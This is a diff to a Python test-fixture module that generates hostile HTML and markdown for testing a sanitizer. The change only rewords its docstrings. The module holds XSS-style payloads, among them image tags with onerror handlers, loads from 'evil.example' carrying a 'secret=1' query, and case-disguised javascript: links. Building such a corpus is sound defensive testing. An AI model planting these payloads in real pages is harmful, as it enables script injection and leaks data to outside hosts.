@@ -1,7 +1,7 @@
-"""Markup that would run, load or lead somewhere if a page took it as its own.
+"""Markup that would run, load or navigate if a page interpreted it.
 
-Whatever runs sets ``window.hit``, whatever loads asks ``evil.example``: ``test_hostile`` watches
-both. Made by tables where only a name differs, by hand where the trick is the shape.
+Code that runs sets ``window.hit``, loads request ``evil.example``: ``watch`` detects both.
+Generated from tables where only a name differs, written by hand where the shape matters.
 """
 
 from __future__ import annotations
@@ -12,7 +12,7 @@ EVIL = "https://evil.example"
 
 
 def _handlers() -> list[str]:
-    """Elements whose handlers fire by themselves, or when touched."""
+    """Elements whose handlers fire without or with a touch."""
     fires_alone = {
         "img src=x": ("onerror", "onload", "onloadstart"),
         f"img src={EVIL}/i": ("onerror", "onload"),
@@ -60,7 +60,7 @@ def _handlers() -> list[str]:
 
 
 def _loads() -> list[str]:
-    """Elements that fetch something from elsewhere."""
+    """Elements that load external resources."""
     addresses = (f"{EVIL}/{{}}?secret=1", "//evil.example/{}", "\\\\evil.example\\{}")
     elements = (
         "<img src='{}'>",
@@ -111,7 +111,7 @@ def _loads() -> list[str]:
 
 
 def _schemes() -> list[str]:
-    """Addresses that are programs, plain and disguised, in links of markdown and HTML."""
+    """Script addresses, plain and disguised, in links of markdown and HTML."""
     programs = (
         "javascript:window.hit='scheme'",
         "JaVaScRiPt:window.hit='case'",
@@ -290,4 +290,4 @@ MARKUP: tuple[str, ...] = (
     *_MUTATIONS,
     *_MARKDOWN,
 )
-"""Everything of this kind."""
+"""All of them."""
